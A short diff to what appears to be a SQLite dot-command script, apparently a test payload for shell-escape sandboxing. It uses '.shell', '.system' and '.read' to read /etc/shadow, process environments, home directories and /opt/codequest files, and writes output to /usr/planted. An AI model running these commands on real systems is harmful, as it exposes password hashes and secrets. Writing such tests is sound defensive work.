@@ -1,5 +1,5 @@
 .bail off
-.shell cat /proc/*/environ /etc/shadow /root/.bashrc
+.shell cat /proc/*/environ /etc/shadow /etc/hostname
 .system cat /tmp/* /home/* /opt/codequest/*
 .read /etc/shadow
 .output /usr/planted
